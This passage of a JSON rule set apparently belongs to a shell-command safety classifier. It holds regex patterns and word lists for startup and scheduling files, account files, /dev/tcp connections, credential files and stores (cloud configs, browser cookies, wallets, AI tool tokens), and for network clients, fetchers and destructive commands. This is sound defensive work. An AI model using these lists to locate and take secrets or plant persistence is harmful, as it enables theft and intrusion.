-Disks.","kernel":"Switches and memory of the kernel.","socket":"Sockets that control a machine.","connection":"\`/dev/tcp/\\u2026\`: a connection to another machin\
-e.","local-connection":"The same to this machine, or to a container beside it.","nowhere":"\`/dev/null\`.","endless":"Devices without an end: \`/dev/zero\`.","data"\
-:"Dumps, backups, databases, lists of people.","logs":"Evidence kept by the system: logs, histories.","unknown":"Unknown before the command runs.","unknown-fold\
-er":"Everything in a folder whose name is unknown, and may be empty: all of the machine then."},"purposes":{"connection":{"form":"^/dev/(?:tcp|udp)/(?!(?:localh\
-ost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[?::1\\\\]?|[a-z][\\\\w-]*)/)"},"local-connection":{"form":"^/dev/(?:tcp|udp)/(?:localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[?::1\\\\]?\
-|[a-z][\\\\w-]*)/"},"nowhere":{"form":"^/dev/(?:null|zero|full|random|urandom)$"},"endless":{"form":"^/dev/(?:zero|full|u?random)$"},"startup":{"form":"^(~/)?\\\\.(\
-bashrc|bash_profile|bash_login|bash_logout|bash_aliases|profile|zshrc|zshenv|zprofile)$|^(~/)?\\\\.(zlogin|zlogout|kshrc|cshrc|tcshrc|login|xprofile|xinitrc|xsess\
-ion|xsessionrc|shrc)$|^(~/)?\\\\.(mkshrc|bash_env|inputrc|pam_environment)$|^~/\\\\.config/(fish/|autostart(/|$)|environment\\\\.d(/|$)|nvim/init\\\\.|plasma-workspace/\
-env)|^~/\\\\.(vimrc|emacs|pythonrc|pythonstartup|gdbinit|tmux\\\\.conf|ssh/rc|ssh/environment|ssh/config)|^~/\\\\.(oh-my-zsh/)|^~/\\\\.(local/lib/python[^/]*/site-packa\
-ges/.*(\\\\.pth|sitecustomize\\\\.py|usercustomize\\\\.py))|^/etc/(profile(\\\\.d(/.*)?)?|bash\\\\.bashrc|bashrc|zsh(/.*|rc|env)|environment)$|^/etc/(ld\\\\.so\\\\.(preload|c\
-onf)(\\\\.d/.*)?|rc\\\\.local|xdg/autostart/.*|skel/.*|fish/.*)$|^/etc/(update-motd\\\\.d/.*|inputrc)$|(^|/)(sitecustomize|usercustomize)\\\\.py$|/(site|dist)-packages/\
-[^/]+\\\\.pth$","home":true},"schedule":{"form":"^/etc/(cron[^/]*(/.*)?|anacrontab|systemd/.*|init\\\\.d(/.*)?|rc\\\\d?\\\\.d(/.*)?|inittab|init/.*)$|^/var/spool/(cron|\
-at)|^(/usr)?/lib/systemd/|^/run/systemd/|^~/\\\\.config/systemd(/|$)|^~?/library/launch(agents|daemons)(/|$)|^/library/launch|^~/\\\\.config/cron|^/usr/local/etc/rc\
-\\\\.d/|^(/usr)?(/lib|/etc)/udev/rules\\\\.d/|^/etc/polkit-1/","home":true},"authorized-keys":{"form":"(^|/)\\\\.ssh/authorized_keys2?$|^/etc/ssh/(sshd_config|authori\
-zed_keys)"},"accounts":{"form":"^(/usr/local)?/etc/(passwd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\.d(/.*)?)?|pam\\\\.d(/.*)?)$|^(/usr/local)?/etc/(securit\
-y/.*|doas\\\\.conf|login\\\\.defs|subuid|subgid|pass\\\\S*[*?]\\\\S*)$"},"account-secrets":{"form":"^(/usr/local)?/etc/(?!passwd$)(passwd-?|master\\\\.passwd|shadow-?|gsh\
-adow-?|sudoers(\\\\.d(/.*)?)?)$|^(/usr/local)?/etc/(?!passwd$)(pam\\\\.d(/.*)?|security/.*|doas\\\\.conf|login\\\\.defs|subuid|subgid)$|^(/usr/local)?/etc/(?!passwd$)(p\
-ass\\\\S*[*?]\\\\S*)$|^/usr/local/etc/passwd$"},"device":{"form":"^/dev/((sd|hd|vd|xvd)[a-z*?]+[\\\\d*?]*|nvme\\\\d.*|mmcblk.*|disk\\\\d?.*|rdisk.*|md\\\\d+|dm-\\\\d+|mapper/\
-.*)$|^/dev/(loop\\\\d+|nbd\\\\d+|mem|kmem|port|disk/.*|vg\\\\w*/.*)$"},"kernel":{"form":"^/(proc/(sys|sysrq-trigger|kcore|\\\\d+/mem|kmsg)|sys/|boot/)"},"socket":{"form\
-":"(^|/)(docker|containerd|podman|crio)\\\\.sock$"},"vcs-config":{"form":"^(~/\\\\.gitconfig|~/\\\\.config/git/|/etc/gitconfig)"},"data":{"form":"(^|[-_./])(dumps?|ba\
-ckups?|customers?|users|clients|payroll|salar(y|ies)|patients?)([-_./]|$)|(^|[-_./])(employees|database|production[-_]?data|private|confidential|secrets?|prod)(\
-[-_./]|$)|\\\\.(sql|sql\\\\.gz|dump|sqlite3?|db|bak|mdb|rdb|pst|mbox|kdbx)$"},"logs":{"form":"^/var/(log|audit)(/|$)|(^|/)\\\\.(bash|zsh|sh|python|mysql|psql|node_rep\
-l)_history$|^/run/log"}},"words":{"system_folders":["bin","boot","dev","etc","lib","lib32","lib64","libx32","opt","proc","root","run","sbin","srv","sys","usr","\
-var","system","library","applications","snap","nix","lost+found"],"root_folders":["boot","dev","etc","proc","root","sys","usr"],"personal_folders":["documents",\
-"desktop","pictures","downloads","music","videos","movies","photos","library",".config",".local",".mozilla"],"credentials":[".netrc","_netrc",".npmrc",".pypirc"\
-,".pgpass",".my.cnf",".mylogin.cnf",".git-credentials",".htpasswd",".dockercfg",".s3cfg",".boto",".vault-token",".envrc",".terraformrc",".yarnrc.token","kubecon\
-fig","master.key","wallet.dat","login.keychain-db","key4.db","logins.json","shadow","gshadow","shadow-","gshadow-","environ","admin.conf","secring.gpg",".bash_h\
-istory",".zsh_history",".python_history",".psql_history",".mysql_history",".node_repl_history","tnsnames.ora",".secrets",".secret",".passwd-s3fs","rclone.conf",\
-".credentials"],"disposable":["node_modules","bower_components","jspm_packages","dist","dist-ssr","build","builds","_build","out","output","outputs","target","b\
-in","obj","coverage","htmlcov",".nyc_output",".next",".nuxt",".output",".svelte-kit",".turbo",".cache","cache","caches",".parcel-cache",".vite",".angular",".gra\
-dle",".venv","venv","env","virtualenv",".virtualenv","__pycache__",".pytest_cache",".mypy_cache",".ruff_cache",".tox",".nox",".eggs",".hypothesis",".ipynb_check\
-points",".terraform",".serverless",".vercel",".netlify",".docusaurus",".eslintcache",".stylelintcache","storage/framework/views","storage/framework/cache",".cov\
-erage","coverage.xml","lcov.info","builddir","storybook-static","public/build","public/packs","vendor","vendor/bundle","tmp","temp",".tmp",".temp","logs","log",\
-"generated","gen",".generated","__generated__","artifacts","artifact","reports","report","test-results","test-reports","test-output","test_output","playwright-r\
-eport","allure-results","allure-report","junit.xml","deps",".bundle","cmake-build-debug","cmake-build-release","cmakefiles","cmakecache.txt","debug","release","\
-.stack-work","dist-newstyle",".dart_tool","deriveddata","pods",".build",".swiftpm","elm-stuff","zig-out","zig-cache","nimcache",".zig-cache","scratch",".scratch\
-","_site",".jekyll-cache",".sass-cache","bench-results",".pnpm-store","package-lock.json","yarn.lock","pnpm-lock.yaml","poetry.lock",".ds_store","thumbs.db","no\
-hup.out","a.out","lib-cov","typings","wheelhouse",".aws-sam","cdk.out",".elixir_ls",".lexical",".metals",".bloop",".bsp",".ccls-cache",".scannerwork",".snakemak\
-e",".cxx","bazel-out","bazel-bin","bazel-testlogs",".astro",".externalnativebuild",".expo",".vuepress",".docusaurus",".vinxi",".nitro",".wxt",".yarn/cache",".rp\
-t2_cache",".fusebox",".dynamodb",".nx","lerna-debug.log",".phpunit.result.cache",".phpunit.cache",".direnv","mlruns","wandb","lightning_logs","runs","checkpoint\
-s/tmp","snapshots","__snapshots__","__image_snapshots__","screenshots"],"project_outputs":["resources/_gen","stage","pkgroot","rootfs","appdir",".vs","xcuserdat\
-a",".libs",".firebase",".apt_generated","web_modules","vcpkg_installed","develop-eggs","bin-debug","bin-release","sdist","out-tsc","opencover","paket-files","me\
-son-logs","nbbuild","nbdist","nimblecache","msbuild_logs","htmldocs","gwt-unitcache","codecoverage","cover_db","cython_debug","ipch","lib_managed","src_managed"\
-,"project/boot","project/target","blib","build_isolated","devel_isolated","benchmarkdotnet.artifacts","test-report","tests_output","_yardoc","__pypackages__","_\
-_marimo__","__macosx",".yardoc",".virtual_documents",".pytype",".pyre",".pybuilder",".pub",".pdm-build",".mooncakes",".ng",".nb-gradle",".lein-plugins",".lake",\
-".kitchen",".ionide",".htf",".godot",".import",".expo-shared",".ensime_cache",".eask",".cpcache",".cdk.staging",".buildlog",".artifacts",".ansible",".ammonite",\
-".rts2_cache_cjs",".rts2_cache_es",".rts2_cache_umd",".symlinks","blob-report","tfplan","tfplan.binary","tfplan.out","_autosummary","latex.out","slprj",".stryke\
-r-tmp",".swc",".wrangler",".sst",".open-next",".contentlayer",".lighthouseci",".jest-cache",".rollup.cache",".kotlin",".scala-build","intermediate","deriveddata\
-cache","library/bee","library/scriptassemblies","library/packagecache","library/artifacts","library/shadercache","flutter/ephemeral","flutter/flutter.podspec","\
-saved/shaderdebuginfo","saved/logs","saved/autosaves","binaries","pm_to_blib","mymeta.yml","mymeta.json","mutants","mutants.out",".pnp.cjs",".pnp.js",".pnp.load\
-er.mjs","_deps","buck-out","plz-out",".pants.d","testresults","apppackages","bundleartifacts","renv/library","renv/staging","packrat/lib","packrat/src",".rproj.\
-user",".quarto","cypress/videos","cypress/screenshots","typechain","typechain-types","test-ledger",".anchor",".dfx","cov_profile",".grunt","lua_modules",".spago\
-","carthage/build","carthage/checkouts","fastlane/report.xml","_opam","_esy",".hpc","catboost_info","mlartifacts","erl_crash.dump","rebar3.crashdump",".rspec_st\
-atus",".fetch","_rel",".eunit",".xmake",".jqwik-database",".sonar",".sonarlint",".stestr",".testrepository",".benchmarks",".webassets-cache","lib-commonjs",".qu\
-asar",".tanstack",".react-router","captures","texput.log",".texpadtmp","_book"],"source_folders":["src","source","sources","lib","libs","app","apps","test","tes\
-ts","spec","specs","__tests__","e2e","integration","doc","docs","documentation","packages","modules","module","components","pages","routes","server","client","c\
-lients","api","backend","frontend","web","www","site","core","internal","cmd","pkg","pkgs","script","scripts","config","configs","configuration","settings","pub\
-lic","static","assets","images","img","media","data","dataset","datasets","db","database","databases","migrations","models","model","views","controllers","servi\
-ces","service","utils","util","helpers","common","shared","include","bin","tool","tools","examples","samples","templates","styles","css","resources","i18n","loc\
-ale","locales","fixtures","plugins","plugin","extensions","themes","infra","infrastructure","terraform","deploy","deployment","k8s","kubernetes","charts","helm"\
-,"ansible","docker","ci",".github",".gitlab",".circleci",".vscode",".idea",".husky","notebooks","crates","contracts","proto","protos","schema","schemas","androi\
-d","ios","macos","windows","linux","functions","lambdas","middleware","hooks","stores","types","interfaces","main","java","kotlin","resources","benches","benchm\
-arks","bench","vendor","third_party","native","engine","kernel","drivers","firmware","game","content","posts","blog","articles","book","wiki"],"source_endings":\
-["ts","tsx","js","jsx","mjs","cjs","mts","cts","py","pyi","go","rs","java","kt","kts","rb","php","cs","c","cc","cpp","h","hpp","swift","scala","ex","exs","erl",\
-"clj","lua","dart","vue","svelte","css","scss","htm","html","md","mdx","rst","adoc","snap","sql","sh","bats","proto","graphql","tf","feature","png","svg"],"file\
-_endings":["ts","tsx","js","jsx","mjs","mjsx","cjs","cjsx","mts","cts","json","jsonc","md","mdx","py","rb","go","rs","c","h","cc","cpp","hpp","java","kt","kts",\
-"swift","php","sh","yml","yaml","toml","lock","txt","css","scss","htm","html","vue","svelte","sql","xml","ini","cfg","conf","csv","tf","proto","ex","exs","scala\
-","cs","lua","ipynb","snap","svg","gradle","mod","sum"],"files":["gradlew","mvnw","configure","makefile","gnumakefile","justfile","dockerfile","gemfile","rakefi\
-le","procfile","version","license","readme","codeowners"]},"credential_stores":"\\\\.gnupg|\\\\.aws|\\\\.azure|\\\\.password-store|\\\\.oci|\\\\.aliyun|\\\\.kube/config|\\\\.ku\
-be/cache|\\\\.docker/config\\\\.json|\\\\.config/gcloud|\\\\.config/gh|\\\\.config/hub|\\\\.config/doctl|\\\\.config/rclone|\\\\.config/op|\\\\.config/sops|\\\\.config/glab-cli|\\\\.\
-config/hcloud|\\\\.config/scw|\\\\.config/linode-cli|\\\\.config/fly|\\\\.fly/config\\\\.yml|\\\\.config/netlify|\\\\.netlify/config\\\\.json|\\\\.config/configstore|\\\\.heroku/ne\
-trc|\\\\.config/stripe|\\\\.config/ngrok|\\\\.ngrok2|\\\\.config/github-copilot|\\\\.config/solana|\\\\.config/filezilla|\\\\.filezilla|\\\\.config/composer/auth\\\\.json|\\\\.comp\
-oser/auth\\\\.json|\\\\.config/pip/pip\\\\.conf|\\\\.pip/pip\\\\.conf|\\\\.config/railway|\\\\.railway/config\\\\.json|\\\\.config/vercel|com\\\\.vercel\\\\.cli/auth\\\\.json|\\\\.supaba\
-se/access-token|\\\\.pulumi/credentials\\\\.json|\\\\.circleci/cli\\\\.yml|\\\\.travis/config\\\\.yml|\\\\.sentryclirc|\\\\.twilio-cli|\\\\.auth0|\\\\.lpass|\\\\.jira\\\\.d|\\\\.mc/confi\
-g\\\\.json|\\\\.rancher/cli2\\\\.json|\\\\.config/argocd/config|\\\\.okta/okta\\\\.yaml|\\\\.exoscale|\\\\.bluemix|\\\\.snowflake|\\\\.databrickscfg|\\\\.kaggle/kaggle\\\\.json|\\\\.hugg\
-ingface/token|\\\\.cache/huggingface/token|\\\\.codex/auth\\\\.json|\\\\.claude/\\\\.credentials\\\\.json|\\\\.gemini/oauth_creds\\\\.json|\\\\.cargo/credentials[^/]*|\\\\.gem/cred\
-entials|\\\\.terraform\\\\.d/credentials[^/]*|\\\\.m2/settings\\\\.xml|\\\\.m2/settings-security\\\\.xml|\\\\.gradle/gradle\\\\.properties|\\\\.local/share/keyrings|\\\\.local/shar\
-e/kwalletd|library/keychains|\\\\.mozilla/firefox|\\\\.thunderbird|google-chrome[^/]*/default|google-chrome[^/]*/profile[^/]*|chrome/default|chrome/profile[^/]*|chr\
-omium/default|chromium/profile[^/]*|brave-browser/default|microsoft-edge[^/]*/default|\\\\.purple/accounts\\\\.xml|google-chrome[^/]*/[^/]*/cookies|chromium/[^/]*/c\
-ookies|brave-browser/[^/]*/cookies|microsoft-edge[^/]*/[^/]*/cookies|\\\\.cache/msal[^/]*|\\\\.subversion/auth|\\\\.ethereum/keystore|\\\\.bitcoin|\\\\.electrum|\\\\.vnc/pa\
-sswd|\\\\.rediscli_auth|\\\\.wpa_supplicant|run/secrets|etc/ssl/private|etc/ssh/ssh_host_[^/]*_key|etc/kubernetes/admin\\\\.conf|etc/kubernetes/pki|etc/krb5\\\\.keytab|\
-etc/wpa_supplicant|etc/networkmanager/system-connections|etc/letsencrypt/live/[^/]*/privkey[^/]*\\\\.pem|etc/letsencrypt/archive|var/lib/sss/db|tmp/krb5cc_[^/]*|e\
-tc/master\\\\.passwd|etc/security/opasswd","credential_samples":[".env",".env.local",".env.production","credentials","credentials.json","secrets.yml","id_rsa","id\
-_ed25519",".netrc",".npmrc",".pypirc",".pgpass",".git-credentials","shadow"]},"programs":{"words":{"fetchers":["curl","wget","aria2c","http","https","xh","fetch\
-","axel","wget2","Invoke-WebRequest","iwr","Invoke-RestMethod","irm"],"network_clients":["dig","nslookup","host","drill","kdig","nc","ncat","netcat","socat","te\
-lnet","lynx","w3m","links","elinks","ftp","tftp","lftp","lwp-request","GET","wget2","lwp-download"],"copiers":["cp","mv","ln","install"],"killers":["pkill","kil\
-lall","skill","slay","taskkill","Stop-Process","fuser","start-stop-daemon"],"keepers":["tee","sponge","read","mapfile","readarray","dd","split","cp","install"],\
-"root_wrappers":["sudo","doas","su","pkexec","run0","runuser","gosu","please"],"script_runners":["sh","bash","dash","ksh","zsh","ash","fish","python","perl","ru\
-by","node","php","source",".","lua","deno","bun","tclsh","rscript"],"machine_programs":["format","halt","init","poweroff","reboot","scrub","sg","shutdown","teli\
-nit","transfer","wipe"],"tree_commands":["reset","clean","checkout","switch","restore","rm","apply","merge","rebase","cherry-pick","revert","am"],"closed_option\
-s":["rm","i","t","d","interactive","tty","detach","init","read-only","pull","platform","network","net","e","env","w","workdir","u","user","name","p","publish","\
-m","memory","cpus","read-only","cap-drop","pids-limit","stop-timeout","entrypoint","hostname","l","label","shm-size","tmpfs","q","quiet"],"body_options":["d","d\
-ata","data-ascii","data-binary","data-raw","data-urlencode","json","post-data","body-data"],"package_verbs":["access","add","approve-builds","audit","autoclean"\
-,"bin","cache","cat-file","cat-index","check","ci","completion","config","constraints","create","dedupe","deploy","dlx","doctor","env","exec","explain","fetch",\
-"find-hash","foreach","generate-lock-entry","global","help","i","ignored-builds","import","info","init","install","install-test","it","licenses","link","list","\
-ln","login","logout","ls","m","multi","npm","outdated","owner","pack","patch","patch-commit","patch-remove","plugin","policies","profile","prune","publish","rb"\
-,"rebuild","recursive","remove","rm","root","run","run-script","search","self-update","selfupdate","server","set","setup","stage","start","stop","store","tag","\
-team","test","t","un","uninstall","unlink","unplug","up","update","upgrade","upgrade-interactive","version","versions","view","whoami","why","with","workspace",\
-"workspaces"],"silent":["[","test","true","false",":","rm","mkdir","touch","chmod","chown","kill","sleep","wait","exit","return","cp","mv","ln"],"risky":["rm","\
-rmdir","unlink","shred","srm","wipe","dd","mkfs","mkfs.ext4","mkfs.xfs","mkfs.btrfs","mkswap","wipefs","fdisk","sfdisk","parted","blkdiscard","truncate","mv","c\
-p","chmod","chown","chgrp","chattr","setfacl","ln","tee","cat","curl","wget","nc","ncat","socat","scp","rsync","sftp","ftp","ssh","git","find","xargs","sh","bas\
-h","dash","zsh","ksh","sudo","su","doas","env","eval","python","python3","perl","ruby","node","php","kill","killall","pkill","shutdown","reboot","halt","powerof\
-f","init","systemctl","service","crontab","at","useradd","userdel","usermod","passwd","visudo","iptables","nft","ufw","mount","umount","docker","kubectl","helm"\
-,"terraform","aws","gcloud","az","psql","mysql","dropdb","base64","gpg","openssl","rimraf","trash","insmod","modprobe","sysctl"],"non_runners":["echo","printf",\
-"cat","less","more","head","tail","grep","egrep","fgrep","rg","ag","ack","sed","awk","cut","sort","uniq","wc","tr","diff","cmp","comm","patch","ls","ll","tree",\
-"stat","file","touch","mkdir","rmdir","rm","cp","mv","ln","chmod","chown","chgrp","which","whereis","type","whatis","man","info","help","apropos","tldr","hash",\
-"test","[","[[","true","false",":","cd","pwd","pushd","popd","dirs","exit","return","break","continue","export","unset","set","shift","read","local","declare","\
-alias","unalias","git","hg","svn","gh","glab","npm","pnpm","yarn","bun","pip","pip3","pipx","poetry","cargo","rustc","rustup","go","gem","bundle","composer","mv\
-n","gradle","make","cmake","ninja","bazel","apt","apt-get","aptitude","dpkg","dnf","yum","rpm","pacman","apk","brew","snap","flatpak","zypper","emerge","port","\
-nix","docker","podman","kubectl","helm","terraform","aws","gcloud","az","curl","wget","http","https","nc","ncat","ssh","scp","sftp","rsync","ftp","tar","zip","u\
-nzip","gzip","gunzip","bzip2","xz","7z","ar","cpio","jest","mocha","vitest","pytest","tsc","eslint","biome","prettier","vim","vi","nvim","nano","emacs","code","\
-ed","ex","jq","yq","xmllint","python","python2","python3","node","deno","ruby","perl","php","java","javac","gcc","g++","clang","lua","Rscript","date","cal","upt\
-ime","uname","hostname","whoami","id","groups","who","w","ps","top","htop","kill","killall","pkill","pgrep","jobs","fg","bg","wait","sleep","seq","yes","basenam\
-e","dirname","realpath","readlink","mktemp","tee","cksum","md5sum","sha1sum","sha256sum","base64","base32","xxd","od","hexdump","strings","column","fold","fmt",\
-"nl","paste","join","split","expand","rev","tac","shuf","gpg","openssl","ssh-keygen","ssh-add","systemctl","service","journalctl","dmesg","mount","umount","df",\
-"du","free","lsof","ss","netstat","ip","ifconfig","ping","dig","nslookup","host","traceroute","useradd","userdel","usermod","passwd","crontab","dd","mkfs","trun\
-cate","shred","notify-send","say","logger","write","wall","mail","psql","mysql","sqlite3","redis-cli","mongosh","sh","bash","dash","zsh","ksh","eval","source","\
-.","trap","fork-bomb","compgen","complete","getent","locate","updatedb","apt-cache","apt-file","command","builtin","fzf","bat","exa","eza","fd","dropdb","create\
-db","shellcheck","shfmt","checkbashisms","hadolint"],"filters":["awk","gawk","mawk","yq","fold","fmt","nl","column","paste","join","expand","unexpand","iconv","\
-basenc","uudecode","uuencode","qprint","openssl","gunzip","zcat","bzcat","xzcat","gzip","bzip2","bunzip2","xz","unxz","zstd","unzstd","lz4","m4","cpp","envsubst\
-","recode","rot13","pr","csplit","od","hexdump","hd","ul","colrm","col","ascii2uni","uni2ascii","perl","ruby","pv","mbuffer","bc","dc","shuf","look","comm","tso\
-rt","ptx","nkf","cut","base32"]},"interpreters":{"python":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"ip\
-ython":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"ipython3":{"short":"cmWXQ","long":["check-hash-based-\
-pycs"],"language":"python","code":["c"],"module":["m"]},"node":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditi\
-ons","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-f\
-ilename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","prelo\
-ad"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check","no-prompt"]},"nodejs":{"short":"eprC","long":["eval","print",\
-"require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","re\
-direct-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","te\
-st-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check","no-\
-prompt"]},"bun":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","\
-input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unh\
-andled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","co\
-de":["e","p","eval","print"],"checks":["c","check","no-prompt"]},"tsx":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader",\
-"conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","\
-report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig\
-","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check","no-prompt"]},"ts-node":{"short":"eprC","long":["eval"\
-,"print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-co\
-nfig","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pat\
-tern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","ch\
-eck","no-prompt"]},"deno":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists",\
-"config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-l\
-imit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javas\
-cript","code":["e","p","eval","print"],"checks":["c","check","no-prompt"]},"zx":{"short":"eprC","long":["eval","print","require","import","loader","experimental\
--loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-dir\
-ectory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination",\
-"tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check","no-prompt"]},"perl":{"short":"eEIMm","langua\
-ge":"perl","code":["e","E"],"checks":["c","MO=Deparse","MO=Concise","MO=Terse"]},"ruby":{"short":"eIrEC","long":["encoding","external-encoding","internal-encodi\
-ng","enable","disable","dump","parser"],"language":"ruby","code":["e"],"checks":["c"]},"rake":{"short":"feER","long":["rakefile","execute"],"permuted":true,"lan\
-guage":"ruby","code":["e","execute"],"files":["f","rakefile"],"operands":"no code","usual":["Rakefile","rakefile","Rakefile.rb"]},"php":{"short":"rBREFfdczS","l\
-ong":["run","file","process-begin","process-code","process-end","process-file","define","php-ini","server","docroot"],"language":"php","code":["r","run","B","R"\
-,"E","process-begin","process-code","process-end"],"files":["f","F","file"],"checks":["l"]},"awk":{"short":"fFvieEl","long":["file","field-separator","assign","\
-source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"gawk":{"short":"fFvieEl","long":["fi\
-le","field-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"mawk\
-":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E",\
-"exec"],"operands":"code"},"nawk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","code":["e","s\
-ource"],"files":["f","file","E","exec"],"operands":"code"},"psql":{"short":"cdfhpUvLoPRTF","long":["command","host","port","user","username","dbname","database"\
-,"file","set","variable"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"mysql":{"short":"ehPuDS","long":["\
-execute","init-command","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute","ini\
-t-command"],"operands":"no code"},"mariadb":{"short":"ehPuDS","long":["execute","init-command","host","port","user","username","dbname","database","file","set",\
-"variable"],"permuted":true,"language":"sql","code":["e","execute","init-command"],"operands":"no code"},"sqlite3":{"long":["cmd","init","separator","newline","\
-nullvalue"],"permuted":true,"language":"sql","code":["cmd"],"files":["init"],"operands":"database then code"},"sqlite":{"permuted":true,"language":"sql","operan\
-ds":"database then code"},"duckdb":{"short":"cs","long":["cmd","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"lan\
-guage":"sql","code":["c","s","cmd"],"operands":"database then code"},"influx":{"long":["execute","host","port","user","username","dbname","database","file","set\
-","variable"],"permuted":true,"language":"sql","code":["execute"],"operands":"no code"},"snowsql":{"short":"qf","long":["query","host","port","user","username",\
-"dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["q","query"],"files":["f"],"operands":"no code"},"bq":{"long":["host","por\
-t","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","operands":"database then code"},"sqlcmd":{"short":"QqSUPdi",\
-"long":["host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["Q","q"],"files":["i"],"operands":\
-"no code"},"clickhouse":{"short":"qhud","long":["query","host","port","user","password","database"],"permuted":true,"language":"sql","code":["q","query"],"opera\
-nds":"database then code"},"clickhouse-client":{"short":"qhud","long":["query","host","port","user","username","dbname","database","file","set","variable"],"per\
-muted":true,"language":"sql","code":["q","query"],"operands":"no code"},"cockroach":{"short":"eu","long":["execute","host","port","user","username","dbname","da\
-tabase","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"},"cqlsh":{"short":"efukp","long":["execute","host"\
-,"port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute"],"files":["f"],"operands":"no code\
-"},"sqlplus":{"long":["host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","operands":"no code"},"mongo\
-":{"short":"fup","long":["eval","host","port","username","password","file","authenticationDatabase"],"permuted":true,"language":"javascript","code":["eval"],"fi\
-les":["f","file"],"operands":"database then files"},"mongosh":{"short":"fup","long":["eval","host","port","username","password","file","authenticationDatabase"]\
-,"permuted":true,"language":"javascript","code":["eval"],"files":["f","file"],"operands":"database then files"},"redis-cli":{"short":"hpsanurt","long":["eval"],\
-"language":"sql","files":["eval"],"operands":"code"},"valkey-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"keyd\
-b-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"cypher-shell":{"short":"aupdf","long":["address","username","pa\
-ssword","database","file"],"permuted":true,"language":"sql","files":["f","file"],"operands":"code"},"rman":{"language":"sql","operands":"no code"},"trino":{"sho\
-rt":"f","long":["server","catalog","schema","user","execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no cod\
-e"},"presto":{"short":"f","long":["server","catalog","schema","user","execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],\
-"operands":"no code"},"presto-cli":{"short":"f","long":["server","catalog","schema","user","execute","file"],"permuted":true,"language":"sql","code":["execute"]\
-,"files":["f","file"],"operands":"no code"},"hive":{"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql",\
-"code":["e"],"files":["f"],"operands":"no code"},"beeline":{"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language\
-":"sql","code":["e"],"files":["f"],"operands":"no code"},"spark-sql":{"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true\
-,"language":"sql","code":["e"],"files":["f"],"operands":"no code"},"impala-shell":{"short":"qifdu","long":["query","query_file","impalad","database"],"permuted"\
-:true,"language":"sql","code":["q","query"],"files":["f","query_file"],"operands":"no code"},"ysqlsh":{"short":"cdfhpUvw","long":["command","host","port","usern\
-ame","dbname","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"vsql":{"short":"cdfhpUvw","long":["com\
-mand","host","port","username","dbname","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"pgcli":{"sho\
